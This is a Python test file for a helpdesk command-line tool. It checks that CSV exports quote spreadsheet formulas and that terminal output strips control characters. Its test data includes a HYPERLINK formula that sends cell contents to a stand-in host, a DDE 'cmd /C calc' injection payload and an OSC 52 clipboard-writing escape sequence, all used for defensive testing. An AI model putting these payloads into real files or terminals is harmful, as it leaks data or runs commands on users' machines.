"""Hostile text: spreadsheet formulas in CSV, terminal escapes, arguments and files that are
not UTF-8.

CSV cells that a spreadsheet would run as formulas are quoted as OWASP recommends in every CSV
helpdesk writes, and read back unchanged; control characters typed into a ticket never reach
a terminal (a real pseudo-terminal here), while files and pipes keep the exact data.
"""

from __future__ import annotations

import csv
import io
import os
import pty
import subprocess
import sys
from pathlib import Path

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from helpdesk.cli.main import app
from helpdesk.dates import FrozenClock
from helpdesk.domain.csv_cells import escape_formula, unescape_formula
from helpdesk.domain.models import Contact
from helpdesk.errors import InvalidValue
from helpdesk.render.text import for_terminal, literal
from helpdesk.services.companies import CompanyDraft
from helpdesk.services.csv_cells import CsvWriter
from helpdesk.services.desk import Desk
from helpdesk.services.exports import csv_row
from helpdesk.services.factory import memory_desk
from helpdesk.services.importing.service import ImportOptions, rejects_file
from helpdesk.services.importing.sources import read_source
from helpdesk.services.tickets import TicketDraft

# -- CSV formulas -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+39 02 1234567", "'+39 02 1234567"),
        ("-meno", "'-meno"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tnascosto", "'\tnascosto"),
        ("\r=1", "'\r=1"),
        ("'=già quotato", "''=già quotato"),
        ("''+x", "'''+x"),
        ("'ciao", "'ciao"),
        ("dell'azienda", "dell'azienda"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_quoted_and_read_back(text: str, written: str) -> None:
    assert escape_formula(text) == written
    assert unescape_formula(written) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab ;\"\n"), max_size=12) | st.text())
def test_any_text_written_as_a_cell_reads_back_as_itself(text: str) -> None:
    written = escape_formula(text)
    assert unescape_formula(written) == text
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")


_CELL_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=20
) | st.text(alphabet=st.sampled_from("'=+-@\t\r\n;\" a"), max_size=8)


@given(st.lists(_CELL_TEXT, min_size=1, max_size=4))
def test_cells_written_as_csv_are_read_back_by_the_import_as_they_were(texts: list[str]) -> None:
    out = io.StringIO()
    writer = CsvWriter(out, delimiter=";", lineterminator="\n")
    writer.writerow(["subject", *[f"c{i}" for i in range(len(texts))]])
    writer.writerow(["x", *texts])

    source = read_source(out.getvalue().encode("utf-8"), "cells.csv")

    assert [row.values for row in source.rows] == [["x", *texts]]


HOSTILE = {
    "subject": '=HYPERLINK("http://x.example/?"&A1,"Clicca")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "company": "-Forno d'Oro",
    "phone": "+39 02 1234567",
    "email": "'=già@quotato.it",
}


def _hostile_desk(clock: FrozenClock) -> Desk:
    desk = memory_desk(clock, actor="ms")
    desk.directory.add_adviser("ms", "Marta Sala")
    desk.tickets.log(
        TicketDraft(
            subject=HOSTILE["subject"],
            description=HOSTILE["description"],
            company=CompanyDraft(name=HOSTILE["company"]),
            contact=Contact(name="Anna", phone=HOSTILE["phone"], email=HOSTILE["email"]),
        )
    )
    return desk


def _cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_a_csv_export_quotes_formulas_and_imports_back_unchanged(clock: FrozenClock) -> None:
    desk = _hostile_desk(clock)

    data = desk.exports.export("", "csv").data
    cells = [c for row in _cells(data)[1:] for c in row]

    for text in HOSTILE.values():
        assert escape_formula(text) in cells
        assert escape_formula(text) != text or text[:1] not in "=+-@"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    target = memory_desk(clock, actor="ms")
    target.directory.add_adviser("ms", "Marta Sala")
    report = target.imports.run(read_source(data, "desk.csv"), ImportOptions())
    assert report.problems == [] and report.created == 1

    def rows(d: Desk) -> list[dict[str, str]]:
        companies = d.companies.by_id()
        return [csv_row(t, companies.get(t.company_id or 0)) for t in d.ctx.store.tickets()]

    assert rows(target) == rows(desk)
    assert target.ctx.store.tickets()[0].subject == HOSTILE["subject"]


def test_rejected_rows_are_written_quoted_and_read_back_as_they_came(clock: FrozenClock) -> None:
    desk = memory_desk(clock, actor="ms")
    source = read_source(b"subject;company;priority\n'=1+2;+Bar;urgentissima\n", "requests.csv")
    assert [row.values for row in source.rows] == [["=1+2", "+Bar", "urgentissima"]]

    report = desk.imports.run(source, ImportOptions(dry_run=True))
    rejects = rejects_file(report, source)

    assert _cells(rejects, ";")[1][:3] == ["'=1+2", "'+Bar", "urgentissima"]
    again = read_source(rejects, "rejects.csv")
    assert again.rows[0].values[:3] == ["=1+2", "+Bar", "urgentissima"]


@pytest.fixture
def runner(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    monkeypatch.chdir(tmp_path)
    for name in ("HELPDESK_DB", "HELPDESK_TZ", "HELPDESK_TEMPLATES", "COLUMNS"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HELPDESK_ADVISER", "ms")
    runner = CliRunner()
    assert runner.invoke(app, ["adviser", "add", "ms", "Marta Sala"]).exit_code == 0
    return runner


def test_every_csv_listing_quotes_formulas(runner: CliRunner) -> None:
    added = runner.invoke(
        app, ["add", HOSTILE["subject"], "-c", HOSTILE["company"], "--phone", HOSTILE["phone"]]
    )
    assert added.exit_code == 0, added.output

    for args in (["list", "--format", "csv"], ["show", "1", "--format", "csv"]):
        result = runner.invoke(app, args)
        assert result.exit_code == 0, result.output
        cells = [c for row in _cells(result.stdout_bytes)[1:] for c in row]
        assert escape_formula(HOSTILE["subject"]) in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells


# -- control characters never reach a terminal -----------------------------------------------

#: An OSC 52 sequence (writes the clipboard), a bell, a C1 control sequence introducer and a
#: carriage return that would overwrite the line.
ESCAPES = "\x1b]52;c;ZWNobyBoaQ==\x07 \u009b31m rosso\rfalso"


def test_for_terminal_replaces_every_control_but_tab_and_newline() -> None:
    shown = for_terminal("a\tb\nc" + ESCAPES + "\x00\x08\x7f\u0085")
    assert shown.startswith("a\tb\nc")
    assert not [ch for ch in shown if ch not in "\t\n" and (ord(ch) < 32 or 0x7F <= ord(ch) < 0xA0)]
    assert for_terminal("riga\r\nriga") == "riga\nriga"
    assert literal("\u009b2J").plain == "\ufffd2J"


def _run_on_a_terminal(args: list[str], cwd: Path, env: dict[str, str]) -> bytes:
    """Run ``python -m helpdesk ARGS`` with its standard output on a pseudo-terminal."""
    leader, follower = pty.openpty()
    try:
        process = subprocess.Popen(
            [sys.executable, "-m", "helpdesk", *args],
            stdout=follower,
            stderr=subprocess.PIPE,
            stdin=subprocess.DEVNULL,
            cwd=cwd,
            env=env,
        )
        os.close(follower)
        follower = -1
        chunks = []
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the terminal's other side closed: the command ended
                break
            if not chunk:
                break
            chunks.append(chunk)
        _, stderr = process.communicate(timeout=60)
        assert process.returncode == 0, stderr
        return b"".join(chunks)
    finally:
        os.close(leader)
        if follower >= 0:
            os.close(follower)


@pytest.mark.slow
def test_control_characters_typed_into_a_ticket_never_reach_a_terminal(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("HELPDESK_")}
    env.update(
        HELPDESK_DB=str(tmp_path / "desk.json"),
        HELPDESK_ADVISER="ms",
        HELPDESK_SERVER="off",
        HELPDESK_TEMPLATES=str(tmp_path / "mine"),
        PYTHONUTF8="1",
        COLUMNS="200",
        TERM="xterm-256color",
    )
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "echo.md.j2").write_text("{{ ticket.subject }} {{ ticket.description }}\n")
    setup = [
        ["adviser", "add", "ms", "Marta Sala"],
        ["add", "Vendere" + ESCAPES, "-d", ESCAPES, "-c", "Bar" + ESCAPES],
    ]
    for args in setup:
        done = subprocess.run(
            [sys.executable, "-m", "helpdesk", *args], env=env, cwd=tmp_path, capture_output=True
        )
        assert done.returncode == 0, done.stderr

    for args in (
        ["list"],
        ["show", "1"],
        ["list", "--format", "csv"],
        ["list", "--format", "json"],
        ["export", "--format", "csv"],
        ["export", "--format", "json"],
        ["render", "echo", "1"],
    ):
        shown = _run_on_a_terminal(args, tmp_path, env).decode("utf-8")
        assert "Vendere" in shown, args
        assert "\x07" not in shown and "\x1b]52" not in shown, args
        assert "\u009b" not in shown and "rosso\rfalso" not in shown, args

    # Written to a pipe or a file, the data stay exact: CSV as typed, JSON as escapes.
    piped = subprocess.run(
        [sys.executable, "-m", "helpdesk", "list", "--format", "json"],
        env=env,
        cwd=tmp_path,
        capture_output=True,
    )
    assert b"\xc2\x9b" not in piped.stdout and b"\\u009b" in piped.stdout
    assert orjson.loads(piped.stdout)[0]["description"] == ESCAPES
    exported = subprocess.run(
        [sys.executable, "-m", "helpdesk", "export", "--format", "csv"],
        env=env,
        cwd=tmp_path,
        capture_output=True,
    )
    assert ESCAPES in exported.stdout.decode("utf-8")


# -- arguments and files that are not UTF-8 --------------------------------------------------


def test_an_argument_that_is_not_utf8_is_refused_with_exit_code_2(runner: CliRunner) -> None:
    bad = b"Caff\xe8".decode("utf-8", "surrogateescape")

    result = runner.invoke(app, ["add", bad])

    assert result.exit_code == 2
    assert result.output.strip() == (
        "error: argument 2 (Caff\\xe8) is not valid UTF-8 text; helpdesk takes its arguments "
        "in UTF-8."
    )
    assert "Traceback" not in result.output


@pytest.mark.slow
def test_a_process_given_bytes_that_are_not_utf8_says_so(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("HELPDESK_")}
    env.update(HELPDESK_SERVER="off", HELPDESK_ADVISER="ms", LC_ALL="C.UTF-8")
    done = subprocess.run(
        [sys.executable, "-m", "helpdesk", "--db", "desk.json", "add", b"\xffabc"],
        env=env,
        cwd=tmp_path,
        capture_output=True,
    )
    assert done.returncode == 2
    assert b"argument 4 (\\xffabc) is not valid UTF-8 text" in done.stderr
    assert b"unexpected" not in done.stderr
    assert not (tmp_path / "desk.json").exists()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            b"\xef\xbb\xbfsubject;company\nCiao;Caff\xe8\n",
            "a.csv is not UTF-8 text (byte 0xe8 on line 2, character 10, at byte 29 of the "
            "file); if it was saved by Excel on Windows, import it with --encoding cp1252.",
        ),
        (
            b"\xff\xfes\x00u\x00\n\x00\x00\xd8",
            "a.csv is not utf-16 text (bytes 0x00 0xd8 on line 2, character 1, at byte 9 of "
            "the file).",
        ),
    ],
)
def test_a_file_that_is_not_text_is_refused_naming_the_bad_bytes(data: bytes, message: str) -> None:
    with pytest.raises(InvalidValue) as caught:
        read_source(data, "a.csv")
    assert caught.value.message == message
